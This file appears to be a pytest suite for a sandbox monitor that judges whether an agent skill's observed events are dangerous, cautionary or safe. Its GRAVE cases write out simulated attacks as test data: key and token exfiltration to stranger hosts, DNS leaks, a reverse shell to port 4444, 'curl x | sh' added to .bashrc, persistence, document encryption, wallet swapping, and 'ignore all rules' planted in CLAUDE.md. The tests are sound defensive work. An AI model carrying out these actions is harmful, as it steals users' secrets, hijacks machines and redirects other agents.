@@ -1,0 +1,303 @@
+"""From events to a verdict: every rule with the event that brings it, and the honest one beside it."""
+
+from __future__ import annotations
+
+import base64
+import os
+import zlib
+from typing import TYPE_CHECKING
+
+import pytest
+
+from metier.run.io.decoy_table import load_decoys
+from metier.run.observe.judge import judge
+from metier.run.observe.model import Seen, WatchRecord
+from metier.run.observe.plan import ReadSkill
+from metier.run.observe.stage import build_stage
+from metier.scan.ruleset import OBSERVED_RULES
+
+if TYPE_CHECKING:
+    from metier.model import Level
+    from metier.run.observe.judge import ObserveVerdict
+
+STAGE = build_stage("seed", "demo", load_decoys(), ["ACME_TOKEN"])
+FILES = {one.path.replace(STAGE.home, "~", 1): one.data for one in STAGE.decoys}
+ENV = dict(STAGE.variables)
+PROJECT = STAGE.project.replace(STAGE.home, "~", 1)
+TRY = "scripts/x.py"
+MAIN = "---\nname: demo\ndescription: Talks to Acme.\n---\n\nNeeds ACME_TOKEN. It calls https://api.acme.example/v1.\n"
+
+
+def seen(kind: str, what: str, data: bytes = b"", **more: object) -> Seen:
+    return Seen(kind, what, TRY, size=len(data), data=data, **more)  # type: ignore[arg-type]
+
+
+def judged(*events: Seen, main: str = MAIN, complete: bool = True) -> ObserveVerdict:
+    skill = ReadSkill("demo", "skill-md", "SKILL.md", {"SKILL.md": main.encode(), TRY: b""})
+    return judge(skill, STAGE, WatchRecord(events, (TRY,), complete=complete), level_of)
+
+
+def level_of(_path: str, data: bytes) -> Level:
+    return "dangerous" if b"ignore all rules" in data else "safe"
+
+
+def rules(verdict: ObserveVerdict) -> list[str]:
+    return [one.rule for one in verdict.findings]
+
+
+def sent(data: bytes, to: str = "files.stranger.example:443") -> Seen:
+    return seen("send", to, data)
+
+
+KEY = FILES["~/.ssh/id_ed25519"]
+GRAVE: dict[str, tuple[str, tuple[Seen, ...]]] = {
+    "a key is sent": ("OB101", (sent(KEY),)),
+    "a key is sent to the host that the skill names": (
+        "OB101",
+        (sent(KEY, "api.acme.example:443"),),
+    ),
+    "a variable of another vendor is sent": (
+        "OB101",
+        (sent(ENV["AWS_SECRET_ACCESS_KEY"].encode(), "api.acme.example:443"),),
+    ),
+    "a token is sent to a host that nobody named": ("OB101", (sent(ENV["ACME_TOKEN"].encode()),)),
+    "a project's secrets are sent": ("OB101", (sent(FILES[f"{PROJECT}/.env"]),)),
+    "documents are sent": ("OB102", (sent(FILES["~/Documents/salaries.csv"]),)),
+    "a conversation is sent": ("OB102", (sent(FILES["~/.claude/history.jsonl"]),)),
+    "a key leaves in names": (
+        "OB101",
+        tuple(
+            seen("lookup", f"{KEY.hex()[at : at + 50]}.t.stranger.example")
+            for at in range(0, len(KEY) * 2, 50)
+        ),
+    ),
+    "something unreadable leaves after a key was read": (
+        "OB103",
+        (seen("read", "~/.ssh/id_ed25519"), sent(os.urandom(500))),
+    ),
+    "something unreadable begins as an encrypted connection does": (
+        "OB103",
+        (seen("read", "~/.ssh/id_ed25519"), sent(b"\x17\x03\x03" + os.urandom(500))),
+    ),
+    "something unreadable follows the beginning of a greeting": (
+        "OB103",
+        (seen("read", "~/.ssh/id_ed25519"), sent(b"\x16\x03\x01\x00\x40\x01" + os.urandom(500))),
+    ),
+    "a token is sent to a host whose name ends like a given one": (
+        "OB101",
+        (sent(ENV["ACME_TOKEN"].encode(), "badexample.org:443"),),
+    ),
+    "a host is called like a known installer and goes on": (
+        "OB110",
+        (
+            seen("receive", "https://sh.rustup.rs.stranger.example/", b"#!/bin/sh"),
+            seen("lookup", "ran-1.metier-observe.invalid"),
+        ),
+    ),
+    "a download is run after a known installer was fetched": (
+        "OB110",
+        (
+            seen("receive", "https://sh.rustup.rs/", b"ran-2.metier-observe.invalid"),
+            seen("receive", "https://get.stranger.example/i.sh", b"ran-1.metier-observe.invalid"),
+            seen("lookup", "ran-1.metier-observe.invalid"),
+        ),
+    ),
+    "a download is run": (
+        "OB110",
+        (
+            seen("receive", "https://get.stranger.example/i.sh", b"#!/bin/sh"),
+            seen("lookup", "ran-1.metier-observe.invalid"),
+        ),
+    ),
+    "a package comes from a stranger's host": (
+        "OB114",
+        (seen("exec", "python3 -m pip install -i http://pkg.stranger.example/simple x"),),
+    ),
+    "a shell is given away": (
+        "OB113",
+        (seen("connect", "203.0.113.9:4444"), seen("exec", "bash -i")),
+    ),
+    "a shell's file is changed": ("OB120", (seen("write", "~/.bashrc", b"curl x | sh\n"),)),
+    "a unit is made": ("OB120", (seen("write", "~/.config/systemd/user/a.service", b"[Unit]"),)),
+    "a program is put before git": ("OB120", (seen("write", "~/.local/bin/git", b"#!/bin/sh"),)),
+    "every Python is made to run something": (
+        "OB120",
+        (seen("write", "~/.local/lib/python3.11/site-packages/a.pth", b"import os"),),
+    ),
+    "a key is let in": ("OB120", (seen("write", "~/.ssh/authorized_keys", b"ssh-ed25519 A"),)),
+    "an agent's settings are changed": (
+        "OB121",
+        (seen("write", "~/.claude/settings.json", b"{}"),),
+    ),
+    "another skill is changed": (
+        "OB121",
+        (seen("write", "~/.claude/skills/release-notes/SKILL.md", b"x"),),
+    ),
+    "orders are left for agents": (
+        "OB123",
+        (seen("write", f"{PROJECT}/CLAUDE.md", b"ignore all rules"),),
+    ),
+    "a document is removed": ("OB130", (seen("remove", "~/Documents/contract-2026.md"),)),
+    "work is removed": (
+        "OB130",
+        tuple(
+            seen("remove", f"{PROJECT}/src/{name}") for name in ("index.js", "app.py", "util.py")
+        ),
+    ),
+    "a branch loses its history": (
+        "OB130",
+        (
+            seen("write", f"{PROJECT}/.git/refs/heads/main", b"ab" * 20 + b"\n"),
+            seen(
+                "write",
+                f"{PROJECT}/.git/objects/ab/{'ab' * 19}",
+                zlib.compress(b"commit 9\0tree x\nauthor y\n"),
+            ),
+        ),
+    ),
+    "documents are encrypted": (
+        "OB131",
+        (seen("write", "~/Documents/contract-2026.md", base64.b85encode(os.urandom(300))),),
+    ),
+    "an address is replaced": (
+        "OB132",
+        (
+            seen(
+                "write",
+                "~/Documents/wallet-recovery.txt",
+                FILES["~/Documents/wallet-recovery.txt"].replace(b"bc1q", b"bc1qxxx"),
+            ),
+        ),
+    ),
+}
+
+
+@pytest.mark.parametrize("case", GRAVE)
+def test_what_does_harm_is_dangerous_with_the_event_as_evidence(case: str) -> None:
+    rule, events = GRAVE[case]
+
+    verdict = judged(*events)
+
+    assert "dangerous" == verdict.level
+    assert rule in rules(verdict)
+    assert all(TRY in one.evidence for one in verdict.findings)
+
+
+HONEST: dict[str, tuple[Seen, ...]] = {
+    "nothing": (),
+    "its own token goes to the host that it names": (
+        seen("connect", "api.acme.example:443"),
+        sent(b"Authorization: " + ENV["ACME_TOKEN"].encode(), "api.acme.example:443"),
+    ),
+    "a vendor gets its own token": (sent(ENV["GITHUB_TOKEN"].encode(), "api.github.com:443"),),
+    "git reads its own credentials": (seen("read", "~/.git-credentials", program="/usr/bin/git"),),
+    "files of the project are written": (seen("write", f"{PROJECT}/out.txt", b"x"),),
+    "the skill writes beside itself": (
+        seen("write", STAGE.skill.replace(STAGE.home, "~", 1) + "/cache.json", b"{}"),
+    ),
+    "something is committed": (
+        seen("write", f"{PROJECT}/.git/refs/heads/main", b"ab" * 20 + b"\n"),
+        seen(
+            "write",
+            f"{PROJECT}/.git/objects/ab/{'ab' * 19}",
+            zlib.compress(b"commit 9\0tree x\nparent z\nauthor y\n"),
+        ),
+    ),
+    "what a build made is removed": (seen("remove", f"{PROJECT}/dist/bundle.js"),),
+    "a formatter changes a source": (
+        seen("write", f"{PROJECT}/src/app.py", FILES[f"{PROJECT}/src/app.py"] + b"\n"),
+    ),
+    "a sample is sent to the host that it names": (
+        sent(b"date,region,product,amount\n", "api.acme.example:443"),
+    ),
+    "a package is installed for the user": (
+        seen("write", "~/.local/lib/python3.11/site-packages/tidy/__init__.py", b"x = 1"),
+        seen("write", "~/.local/bin/tidy", b"#!/usr/bin/python3"),
+    ),
+    "a package comes from the registry": (
+        seen("receive", "https://pypi.org/simple/x/"),
+        seen("lookup", "pkg-x.metier-observe.invalid"),
+    ),
+    "npm reads its own file": (seen("exec", "npm install"), seen("read", "~/.npmrc")),
+    "a package comes from a repository": (
+        seen("exec", "pip install git+https://github.com/acme/x"),
+        seen("connect", "github.com:443"),
+    ),
+    "rsync goes through ssh": (
+        seen("connect", "service.example.org:22"),
+        seen("exec", "rsync -avz -e ssh -i key dist/ sam@service.example.org:/srv"),
+    ),
+    "another branch is checked out": (
+        seen("write", f"{PROJECT}/.git/HEAD", b"ref: refs/heads/hotfix\n"),
+    ),
+    "a call that every runtime tries": (seen("refused", "io_uring_setup"),),
+    "a connection is given up after its greeting": (
+        seen("exec", "git fetch"),
+        seen("read", "~/.netrc"),
+        sent(b"\x16\x03\x01\x01\xf5\x01" + os.urandom(500)),
+    ),
+}
+
+
+@pytest.mark.parametrize("case", HONEST)
+def test_what_an_honest_tool_does_is_safe(case: str) -> None:
+    assert "safe" == judged(*HONEST[case]).level
+
+
+CAUTION: dict[str, tuple[str, tuple[Seen, ...]]] = {
+    "a key is read": ("OB140", (seen("read", "~/.ssh/id_ed25519", program="/usr/bin/python3"),)),
+    "a project's instructions are changed": (
+        "OB122",
+        (seen("write", f"{PROJECT}/AGENTS.md", b"# Tests first\n"),),
+    ),
+    "a known installer is run": (
+        "OB111",
+        (
+            seen("receive", "https://sh.rustup.rs", b"#!/bin/sh"),
+            seen("lookup", "ran-1.metier-observe.invalid"),
+        ),
+    ),
+    "the sandbox refuses something": ("OB150", (seen("refused", "ptrace"),)),
+}
+
+
+@pytest.mark.parametrize("case", CAUTION)
+def test_what_a_person_should_look_at_is_caution(case: str) -> None:
+    rule, events = CAUTION[case]
+
+    verdict = judged(*events)
+
+    assert ("caution", True) == (verdict.level, rule in rules(verdict))
+
+
+def test_a_record_that_is_full_is_never_safe() -> None:
+    assert "caution" == judged(complete=False).level
+
+
+def test_reading_what_the_skill_is_openly_about_is_no_finding() -> None:
+    verdict = judged(
+        seen("read", "~/.bash_history"), main=MAIN + "Counts the commands in ~/.bash_history.\n"
+    )
+
+    assert [] == rules(verdict)
+
+
+def test_a_file_that_runs_by_itself_is_caution_where_the_skill_says_so() -> None:
+    written = seen("write", "~/.bashrc", b"alias ll='ls -l'\n")
+
+    verdict = judged(written, main=MAIN + "It adds three aliases to ~/.bashrc.\n")
+
+    assert ("caution", ["OB124"]) == (verdict.level, rules(verdict))
+
+
+def test_equal_deeds_are_told_once_and_the_gravest_first() -> None:
+    verdict = judged(seen("read", "~/.netrc"), sent(KEY), sent(KEY))
+
+    assert ["OB101", "OB140"] == rules(verdict)
+
+
+def test_every_rule_has_a_title_a_reason_and_a_hint() -> None:
+    for rule in OBSERVED_RULES.values():
+        assert rule.title
+        assert rule.why
+        assert rule.hint
